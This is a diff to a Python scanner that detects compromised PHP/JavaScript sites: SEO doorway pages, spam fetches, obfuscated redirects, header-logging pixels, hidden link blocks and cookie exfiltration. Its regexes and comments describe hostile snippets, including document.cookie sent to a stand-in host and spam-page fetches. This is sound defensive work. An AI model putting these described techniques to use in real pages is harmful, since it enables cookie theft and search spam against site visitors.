@@ -257,7 +257,17 @@ def _visitors_url(ctx: Ctx, text: bytes, at: int) -> bool:
     rest = text[at : at + 300]
     arg = rest[: close_paren(rest)]
     value = ctx.lx.value
-    lits = [value(int(q.group(1))).lower() for q in itertools.islice(PLACEHOLDER.finditer(arg), 12)]
+    # the address may be built in a variable first ($target = 'https://' .
+    # $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; ... rawurlencode($target)): one copy
+    # followed, as the doorway's own address is
+    parts = [arg]
+    for v in itertools.islice(VAR.finditer(arg), 4):
+        parts += [a.group(1) for _, a in var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)]
+    lits = [
+        value(int(q.group(1))).lower()
+        for part in parts
+        for q in itertools.islice(PLACEHOLDER.finditer(part), 12)
+    ]
     # the whole address, its scheme written before the host ('https://' . $_SERVER['HTTP_HOST']
     # . $_SERVER['REQUEST_URI']): a host and a path sent apart (door.php?host=..&uri=..) are
     # what a doorway's server builds its page for
@@ -269,22 +279,44 @@ def _spam_keyword_remote_page(ctx: Ctx, rule: Rule) -> Hit | None:
     """A page fetched from a literal http(s) address for a keyword, and output whole,
     where the keyword is a spam word (pharma, casino, payday...) written in the fetch's
     address or in the value its variable starts from (``$k = $_GET['p'] ?? 'cheap-viagra';
-    echo file_get_contents('http://spin.host/api/' . $k)``): a doorway page that serves
-    spun spam text for whatever keyword the link names. A site's own headless CMS fetched
-    for a page's slug names no spam word."""
+    echo file_get_contents('http://spin.host/api/' . $k)``; two copies followed, a
+    constant's define() read, the address given by sprintf() or CURLOPT_URL), and the page
+    made for this site: its host name sent with the keyword or put into the page
+    (``str_replace('{DOMAIN}', $_SERVER['HTTP_HOST'], $html)``), or the keyword picked at
+    random: a doorway page that serves spun spam text under the hacked site's name. A
+    licensed pharmacy's or a casino affiliate's own CMS, fetched for a page's slug, needs
+    neither the host name nor a random keyword."""
     text = string_text(ctx)
     if _PHARMA.search(text) is None:
         return None
     code = ctx.code
     value = ctx.lx.value
-    for m in itertools.islice(REMOTE_FETCH.finditer(code), 20):
-        if not value(int(m.group(1))).lower().lstrip().startswith(WEB_SCHEMES[:2]):
+    consts: dict[bytes, bytes] | None = None
+    for m in itertools.islice(_SPAM_FETCH.finditer(code), 20):
+        url = value(int(m.group(1) or m.group(2))).lower().lstrip()
+        if not url.startswith(WEB_SCHEMES[:2]):
             continue
-        args = code[m.end() : m.end() + close_paren(code[m.end() : m.end() + 600])]
+        rest = code[m.end() : m.end() + 600]
+        args = rest[: close_paren(rest)]
         texts = [args]
-        for v in itertools.islice(VAR.finditer(args), 4):
-            sets = var_assigns(code[: m.start()], v.group(1), TAIL_RHS, 3)
-            texts += [a.group(1) for _, a in sets]
+        seen: set[bytes] = set()
+        for level in range(2):  # what the variables were given, and theirs in turn
+            for t in list(texts):
+                for v in itertools.islice(VAR.finditer(t), 4):
+                    if v.group(1) in seen:
+                        continue
+                    seen.add(v.group(1))
+                    sets = var_assigns(code[: m.start()], v.group(1), TAIL_RHS, 3)
+                    texts += [a.group(1) for _, a in sets]
+            if level == 0 and _BARE_CONST.search(b" ".join(texts)) is not None:
+                if consts is None:
+                    consts = _defined_consts(ctx)
+                texts += [
+                    consts[c.group(1)]
+                    for t in list(texts)
+                    for c in itertools.islice(_BARE_CONST.finditer(t), 4)
+                    if c.group(1) in consts
+                ]
         spam = any(
             _PHARMA.search(value(int(q.group(1))).lower()) is not None
             for t in texts
@@ -293,9 +325,56 @@ def _spam_keyword_remote_page(ctx: Ctx, rule: Rule) -> Hit | None:
         if not spam or (VAR.search(args) is None and args.find(b"$_") < 0):
             continue
         lo = max(0, m.start() - 300)
-        if _served(code[lo : m.start() + 1000], m.start() - lo):
+        served = _served(code[lo : m.start() + 1000], m.start() - lo) or (
+            m.group(2) is not None and _SERVE.search(code, m.end(), m.end() + 600) is not None
+        )
+        if not served:
+            continue
+        joined = b" ".join(texts)
+        random_pick = _PICKS_AT_RANDOM.search(joined) is not None
+        if random_pick or _for_this_host(ctx, joined):
             return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
     return None
+
+
+# a fetch of a literal address: file_get_contents('http://...' ...), sprintf()'s format as
+# the address, or curl_setopt($ch, CURLOPT_URL, 'http://...' ...)
+_SPAM_FETCH = re.compile(
+    rb"(?:file_get_contents|curl_init|fopen|readfile|file|simplexml_load_file)\s*\(\s*"
+    rb"(?:v?sprintf\s*\(\s*)?\x01(\d+)\x01|curlopt_url\s*,\s*\x01(\d+)\x01"
+)
+# a constant named in code (lower-cased by the lexer): kw, not a call, a variable or a key
+_BARE_CONST = re.compile(rb"(?<![\w$>:\\'\x01])([a-z_][a-z0-9_]{1,40})\b(?!\s*(?:[(\[]|::))")
+_DEFINE = re.compile(rb"(?<![\w$>:])define\s*\(\s*\x01(\d+)\x01\s*,\s*(\x01\d+\x01)\s*\)")
+_HOST_KEYS = (b"http_host", b"server_name")
+
+
+@per_file("defined-consts")
+def _defined_consts(ctx: Ctx) -> dict[bytes, bytes]:
+    """The constants the file defines to one literal: lower-cased name -> the literal."""
+    value = ctx.lx.value
+    return {
+        value(int(d.group(1))).lower(): d.group(2)
+        for d in itertools.islice(_DEFINE.finditer(ctx.code), 200)
+    }
+
+
+def _for_this_host(ctx: Ctx, texts: bytes) -> bool:
+    """The site's host name is in ``texts`` (sent with the keyword), or the file puts it into
+    a text it changes (str_replace('{DOMAIN}', $_SERVER['HTTP_HOST'], $html))."""
+    value = ctx.lx.value
+    if any(
+        value(int(q.group(1))).lower() in _HOST_KEYS
+        for q in itertools.islice(PLACEHOLDER.finditer(texts), 40)
+    ):
+        return True
+    for _start, args in calls_to(ctx, (b"str_replace", b"str_ireplace", b"strtr"), 50):
+        if any(
+            value(int(q.group(1))).lower() in _HOST_KEYS
+            for q in itertools.islice(PLACEHOLDER.finditer(args), 12)
+        ):
+            return True
+    return False
 
 
 # a statement that outputs what it computes (or runs it)
@@ -2160,14 +2239,27 @@ def _same_page_for_people(ctx: Ctx, end: int, name: bytes) -> bool:
     prerendered copy of the page people see (dynamic rendering), not another page. A
     doorway serves crawlers a page of its own, whatever its name (sitemap.html, a
     "snapshot"), and lets people through to the site."""
-    leaf = name.rstrip(b"/").rsplit(b"/", 1)[-1]
+    folder, _, leaf = name.rstrip(b"/").rpartition(b"/")
     if not leaf:
         return False
     value = ctx.lx.value
-    for m in itertools.islice(_PAGE_NAMED.finditer(ctx.code, end, end + 400), 4):
+    code = ctx.code
+    for m in itertools.islice(_PAGE_NAMED.finditer(code, end, end + 400), 4):
         other = value(int(m.group(1))).lower().strip()
         if other != name and other.rstrip(b"/").rsplit(b"/", 1)[-1] == leaf:
             return True
+        # people get a page of the same folder picked at run time, and the crawlers' page
+        # is one of its choices ('/variants/' . ($arm === 'b' ? 'b' : 'control') . '.html':
+        # an A/B test that shows crawlers the control page); a doorway's page is its own
+        if folder and other.rstrip(b"/") == folder:
+            stem = leaf.rsplit(b".", 1)[0]
+            rest = code[m.end() : m.end() + 200]
+            rest = rest[: max(0, rest.find(b";"))]
+            if any(
+                value(int(q.group(1))).lower() == stem
+                for q in itertools.islice(PLACEHOLDER.finditer(rest), 8)
+            ):
+                return True
     return False
 # a page of text or HTML, not a script: what a doorway keeps next to the site for crawlers
 _PAGE_FILE = re.compile(rb"\.(?:txt|html?|shtml)$")
@@ -2460,7 +2552,9 @@ _COOKIE_SENT = re.compile(
 # {body: document.cookie}), $.post('//h/l', {c: document.cookie})
 _COOKIE_BODY = re.compile(
     rb"(?:\bopen\s*\(\s*['\"](?:post|get|put)['\"]\s*,\s*|sendbeacon\s*\(\s*|\bfetch\s*\(\s*|"
-    rb"\$\.(?:post|get|ajax)\s*\(\s*(?:\{\s*url\s*:\s*)?)['\"](?:(?:https?:)?//|['\"])[^\x00]{0,300}?"
+    rb"(?:\$|jquery)\.(?:post|get|ajax)\s*\(\s*(?:\{\s*url\s*:\s*)?|"
+    rb"new\s+websocket\s*\(\s*)['\"](?:(?:(?:https?|wss?):)?//|"
+    rb"(?:\x00|\{?\$[a-z_][\w>\[\]'-]{0,40}\}?)?['\"])[^\x00]{0,300}?"
     rb"(?:\.send\s*\(|,|\bbody\s*:|\bdata\s*:)\s*(?:\{[^}]{0,80}?:\s*)?"
     rb"(?:(?:escape|encodeuricomponent|btoa|json\.stringify)\s*\(\s*)?document\.cookie"
 )
@@ -2477,11 +2571,35 @@ def _js_cookie_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
     it.)"""
     if ctx.data.find(b"document.cookie") < 0:
         return None
-    return (
-        _in_page_text(ctx, _COOKIE_EXFIL)
-        or _in_page_text(ctx, _COOKIE_SENT)
-        or _in_page_text(ctx, _COOKIE_BODY)
+    hit = _in_page_text(ctx, _COOKIE_EXFIL) or _in_page_text(ctx, _COOKIE_SENT)
+    if hit is not None:
+        return hit
+    m = _COOKIE_BODY.search(string_text(ctx))
+    if m is None:
+        return None
+    if _PHP_FILLED.match(m.group(0)) is not None and _own_host_address(ctx):
+        # the address PHP fills in is the site's own ('https://' . $_SERVER['HTTP_HOST'] .
+        # '/api/session/ping', and no other host written in the file): a keep-alive or
+        # consent call to its own server, which gets those cookies anyway
+        return None
+    return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
+
+
+# the address of _COOKIE_BODY's request left for PHP to fill in (an empty literal in the
+# page's text: sendBeacon('<?= $api ?>', ...), fetch('" . $u . "', ...), "$u" in a heredoc)
+_PHP_FILLED = re.compile(rb"[^'\"]*['\"](?:\x00|\{?\$[a-z_][\w>\[\]'-]{0,40}\}?)?['\"]")
+_OTHER_HOST = re.compile(rb"(?:https?:|wss?:)?//[a-z0-9]")
+
+
+def _own_host_address(ctx: Ctx) -> bool:
+    """The file builds a web address from the host the visitor asked for (HTTP_HOST,
+    SERVER_NAME) and writes no literal address of another host."""
+    value = ctx.lx.value
+    host = any(
+        value(int(q.group(1))) in (b"HTTP_HOST", b"SERVER_NAME")
+        for q in itertools.islice(PLACEHOLDER.finditer(ctx.code), 2000)
     )
+    return host and _OTHER_HOST.search(string_text(ctx)) is None
 
 
 # a form's fields read in the page: new FormData(form), document.forms, an input's value
@@ -2620,6 +2738,9 @@ _JS_DECODED_TEXT = (
     rb"(?:atob\s*\(\s*['\"][a-z0-9+/]{2}|unescape\s*\(\s*['\"]%[0-9a-f]{2}"
     rb"|string\.fromcharcode\s*\(\s*\d)"
 )
+# the decoding call may be wrapped or named through window: window["location"]["href"] =
+# decodeURIComponent(escape(window.atob("aHR0c...")))
+_JS_UNWRAP = rb"(?:(?:decodeuricomponent|unescape|escape)\s*\(\s*|(?:window|self)\.){0,4}"
 # obfuscated JavaScript run in the page: eval(String.fromCharCode(...)), document.write(
 # unescape('%3C...')), eval(atob(...)), eval(unescape(...))
 _JS_OBFUSCATED = re.compile(
@@ -2629,8 +2750,9 @@ _JS_OBFUSCATED = re.compile(
     # the browser sent to an address the page decodes from text written into it:
     # location = atob('aHR0c...'), unescape('%68...'), String.fromCharCode(104, ...) (not a
     # value PHP encodes as it writes the page: atob('$back'), the visitor's own return URL)
-    rb"\blocation(?:\.href)?\s*=\s*" + _JS_DECODED_TEXT + rb"|"
-    rb"\blocation\.(?:replace|assign)\s*\(\s*" + _JS_DECODED_TEXT + rb")"
+    rb"(?:\blocation|\[\s*['\"]location['\"]\s*\])(?:\.href|\[\s*['\"]href['\"]\s*\])?\s*=\s*"
+    + _JS_UNWRAP + _JS_DECODED_TEXT + rb"|"
+    rb"\blocation\.(?:replace|assign)\s*\(\s*" + _JS_UNWRAP + _JS_DECODED_TEXT + rb")"
 )
 _JS_WORDS = (b"fromCharCode", b"unescape(", b"atob(", b"decodeURIComponent(")
 
@@ -2801,6 +2923,11 @@ def _bot_list(ctx: Ctx, parts: list[bytes], start: int) -> bool:
 
 # --------------------------------------------------------------------- search-referer redirect
 _SEARCH_ENGINES = re.compile(rb"google|bing|yahoo|yandex|baidu|aol|ask\.com|duckduckgo")
+# the referrer's host looked up in a list of search engines counts as a test too
+# (in_array(parse_url($ref, PHP_URL_HOST), ['www.google.com', ...]))
+_REFERER_TESTS = tuple(dict.fromkeys((*CRAWLER_TESTS, b"in_array", b"str_contains", b"strstr")))
+# a Refresh header that sends the browser on: header('Refresh: 0; url=https://...')
+_REFRESH_HEADER = re.compile(rb"refresh\s*:\s*\d*\s*;?\s*url\s*=\s*['\"]?https?:")
 _REDIRECT = re.compile(
     rb"header\s*\(\s*\x01(\d+)\x01|(?:window|document|top)\.location(?:\.href)?\s*=\s*['\"]?https?:"
 )
@@ -2859,7 +2986,7 @@ def _search_referer_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
         return None
     code = ctx.code
     value = ctx.lx.value
-    for start, args in calls_to(ctx, CRAWLER_TESTS, 100):
+    for start, args in calls_to(ctx, _REFERER_TESTS, 100):
         lits = _test_literals(ctx, args, start)
         if not any(_SEARCH_ENGINES.search(v) for v in lits):
             continue
@@ -2873,7 +3000,9 @@ def _search_referer_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
         for r in _REDIRECT.finditer(window):
             if r.group(1) is not None:
                 target = value(int(r.group(1))).lower().lstrip()
-                if not target.startswith(b"location:") or target[9:].lstrip()[:4] != b"http":
+                if not (
+                    target.startswith(b"location:") and target[9:].lstrip()[:4] == b"http"
+                ) and _REFRESH_HEADER.match(target) is None:
                     continue
             at = start + r.start()
             return Hit(ctx.line_of_code(at), ctx.excerpt_code(start, at + 60))
@@ -3457,6 +3586,9 @@ def _card_skimmer(ctx: Ctx, rule: Rule) -> Hit | None:
 _REQUEST_DUMP = re.compile(
     rb"(?<![\w$>:])(?:apache_request_headers|getallheaders)\s*\(\s*\)|\$_cookie\b(?!\s*\[)"
     rb"|\$_server\s*\[\s*\x01(\d+)\x01\s*\]"
+    # the whole $_SERVER array, its HTTP_* entries being every header the browser sent
+    # (foreach ($_SERVER as $k => $v) if (strpos($k, 'HTTP_') === 0) ...)
+    rb"|\$_server\b(?!\s*\[)"
 )
 # the Cookie header: every cookie. Not the raw query string: a newsletter's open pixel logs
 # it whole (?c=spring24&u=8812) as readily as a cookie stealer does
@@ -3470,6 +3602,7 @@ _IMAGE_FILE = re.compile(rb"\.(?:gif|png|jpe?g|webp|ico)$")
 # one named header of a dump held in a variable, not the cookie one: $h['Referer']
 _ONE_HEADER = re.compile(rb"\$(" + NAME_P + rb")\s*\[\s*\x01(\d+)\x01\s*\]")
 _SET_TO = re.compile(rb"\$(" + NAME_P + rb")\s*=(?![=>])([^;]{1,300});")
+_GLUED_TO = re.compile(rb"\$(" + NAME_P + rb")\s*\.=\s*([^;]{1,300});")
 _EACH_OF = re.compile(rb"foreach\s*\(([^;{]{1,200}?)\s+as\s+([^){;]{1,80})\)")
 
 
@@ -3549,6 +3682,11 @@ def _headers_pixel(ctx: Ctx, rule: Rule) -> Hit | None:
     for m in itertools.islice(_EACH_OF.finditer(code), 100):
         if _whole_request_at(ctx, m.group(1)) >= 0 or set(VAR.findall(m.group(1))) & held:
             held.update(VAR.findall(m.group(2)))
+    # a text glued from those in the loop ($log .= $k . '=' . $v . "\n"), one step
+    if held:
+        for m in itertools.islice(_GLUED_TO.finditer(code), 400):
+            if set(VAR.findall(interpolated(ctx, m.group(2)))) & held:
+                held.add(m.group(1))
     for start, args in writes:
         seen = set(VAR.findall(interpolated(ctx, _one_header_removed(ctx, args, held))))
         if _whole_request_at(ctx, args) >= 0 or seen & held:
@@ -3684,7 +3822,11 @@ _ELSE_OPEN = re.compile(rb"\s*else\s*\{")
 # a variable set to a list read from a file the script keeps
 _LIST_SET = re.compile(
     rb"\$(" + NAME_P + rb")\s*=(?![=>])\s*@?\s*"
+    # through up to three calls that clean the lines (array_filter(array_map('trim', file(
+    # ...)))), or filled a line at a time in a loop that reads the file ($kw[] = trim($l))
+    rb"(?:(?:array_\w+|trim|array_map\s*\(\s*\x01\d+\x01\s*,)\s*\(?\s*){0,3}"
     rb"(?:file\s*\(|explode\s*\([^;]{0,40}file_get_contents\s*\()"
+    rb"|(?:fgets|fgetcsv|stream_get_line)\s*\([^;{}]{0,80}\{\s*\$(" + NAME_P + rb")\s*\[\s*\]\s*="
 )
 
 
@@ -3735,7 +3877,10 @@ def _crawler_keyword_doorway(ctx: Ctx, rule: Rule) -> Hit | None:
         return None
     code = ctx.code
     # the variables set to a list read from a file, where each is set
-    list_sets = [(n.start(), n.group(1)) for n in itertools.islice(_LIST_SET.finditer(code), 30)]
+    list_sets = [
+        (n.start(), n.group(1) or n.group(2))
+        for n in itertools.islice(_LIST_SET.finditer(code), 30)
+    ]
     if not list_sets:
         return None  # no list read from a file into a variable: _picks_from has none to pick
     for m in itertools.islice(_IF_AT.finditer(code), 200):
@@ -3771,8 +3916,22 @@ def _crawler_keyword_doorway(ctx: Ctx, rule: Rule) -> Hit | None:
 # display:none, visibility:hidden, off-screen (left/top/text-indent far negative), no size
 _HIDDEN_STYLE = re.compile(
     rb"display\s*:\s*none|visibility\s*:\s*hidden|(?:left|top|text-indent)\s*:\s*-\d{3,}|"
-    rb"font-size\s*:\s*0(?![.\d])|height\s*:\s*0(?:px)?\s*;\s*overflow\s*:\s*hidden"
+    rb"font-size\s*:\s*0(?![.\d])|height\s*:\s*0(?:px)?\s*;\s*overflow\s*:\s*hidden|"
+    # a box of one pixel (width:1px;height:1px;overflow:hidden)
+    rb"width\s*:\s*[01](?:px)?\s*;\s*height\s*:\s*[01](?:px)?\s*;"
 )
+# an element with the HTML hidden attribute (<div hidden>; not an input's type="hidden"),
+# looked for in a printed literal only (not in the whole text: a try at every "<div")
+_HIDDEN_ATTR = re.compile(
+    rb"<(?:div|span|p|section|aside|ul|footer)\b[^<>]{0,120}?\shidden(?=[\s>/=])"
+)
+
+
+def _hides(lit: bytes) -> bool:
+    """``lit`` (lower case) hides an element by its style or its hidden attribute."""
+    return _HIDDEN_STYLE.search(lit) is not None or (
+        lit.find(b" hidden") >= 0 and _HIDDEN_ATTR.search(lit) is not None
+    )
 _PRINTS = re.compile(rb"(?<![\w$>:])(?:echo|print)\b([^;]{1,600});")
 _FETCH_INTO_VAR = re.compile(
     rb"\$(" + NAME_P + rb")\s*=\s*@?\s*(?:file_get_contents|curl_exec)\s*\(([^;]{0,300})"
@@ -3796,18 +3955,22 @@ def _hidden_remote_links(ctx: Ctx, rule: Rule) -> Hit | None:
     site's own hidden block (a modal, a honeypot field) holds its own content, and a widget
     fetched from a web address is shown."""
     text = string_text(ctx)
-    if _HIDDEN_STYLE.search(text) is None or text.find(b"http") < 0:
+    if (_HIDDEN_STYLE.search(text) is None and text.find(b" hidden") < 0) or text.find(
+        b"http"
+    ) < 0:
         return None
     code = ctx.code
     value = ctx.lx.value
     fetched: set[bytes] = set()
+    sprites: set[bytes] = set()  # given an SVG file's text: an icon sprite, no links
     for m in itertools.islice(_FETCH_INTO_VAR.finditer(code), 50):
         args = m.group(2)
         q = PLACEHOLDER.search(args)
-        if m.group(0).find(b"curl_exec") >= 0 or (
-            q is not None and value(int(q.group(1))).lstrip().lower().startswith(WEB_SCHEMES)
-        ):
+        url = value(int(q.group(1))).strip().lower() if q is not None else b""
+        if m.group(0).find(b"curl_exec") >= 0 or url.startswith(WEB_SCHEMES):
             fetched.add(m.group(1))
+            if _SVG_FILE.search(url) is not None and args.find(b".") < 0:
+                sprites.add(m.group(1))
     # a function of the file's that fetches and returns the page: what it is given is fetched
     fetchers = [
         name
@@ -3831,7 +3994,7 @@ def _hidden_remote_links(ctx: Ctx, rule: Rule) -> Hit | None:
         hiding = [
             lit
             for lit in lits
-            if _HIDDEN_STYLE.search(lit) is not None
+            if _hides(lit)
             or any(set(c.group(1).split()) & hidden_classes for c in _CLASS_ATTR.finditer(lit))
         ]
         if not hiding:
@@ -3842,7 +4005,36 @@ def _hidden_remote_links(ctx: Ctx, rule: Rule) -> Hit | None:
             continue
         if _web_fetch(ctx, args) or set(VAR.findall(interpolated(ctx, args))) & fetched:
             return Hit(ctx.line_of_code(p.start()), ctx.excerpt_code(p.start(), p.start() + 120))
+    # the hidden element written as the page's HTML, the fetched text printed inside it by
+    # a PHP tag: <div style="display:none"><?php echo $links; ?></div> (from each PHP tag
+    # that prints a fetched variable, the element just before it: no search of the HTML)
+    targets = fetched - sprites
+    if targets and ctx.lx.html:
+        data = ctx.data
+        for t in itertools.islice(_PHP_TAG_ECHO.finditer(data), 200):
+            if t.group(1).lower() not in targets:
+                continue
+            before = data[max(0, t.start() - 400) : t.start()].rstrip()
+            if not before.endswith(b">"):
+                continue
+            tag = before[before.rfind(b"<") :].lower()
+            if (
+                _HTML_BOX.match(tag) is not None
+                and _hides(tag)
+                and not _revealed(text, tag)
+            ):
+                line = data.count(b"\n", 0, t.start()) + 1 if ctx.layer == 0 else 0
+                return Hit(line, excerpt(tag + t.group(0).lower()))
     return None
+
+
+# a PHP tag that prints a variable (<?php echo $links; ?>, <?= $links ?>), and an element
+# that holds text
+_PHP_TAG_ECHO = re.compile(
+    rb"<\?(?:php\b|=)\s*(?:(?:echo|print)\s*)?\(?\s*\$(\w{1,60})", re.IGNORECASE
+)
+_HTML_BOX = re.compile(rb"<(?:div|span|p|section|aside|ul|footer)\b")
+_SVG_FILE = re.compile(rb"\.svg(?:[?#]|$)")
 
 
 _CLASS_BEFORE_BRACE = re.compile(rb"\.([\w-]{1,40})\s*$")
@@ -3876,7 +4068,10 @@ def _revealed(text: bytes, lit: bytes) -> bool:
     ident = re.escape(m.group(1))
     return (
         re.search(
-            rb"getelementbyid\s*\(\s*\\?['\"]" + ident + rb"\\?['\"]|['\"]#" + ident + rb"['\"]",
+            rb"getelementbyid\s*\(\s*\\?['\"]" + ident + rb"\\?['\"]|['\"]#" + ident + rb"['\"]|"
+            # another element's attribute that names it: the ad tag that fills the slot
+            # (data-slot="ad-top"), aria-controls, a label's for=
+            rb"(?:data-[\w-]+|aria-controls|for)\s*=\s*\\?['\"]#?" + ident + rb"\\?['\"]",
             text,
         )
         is not None
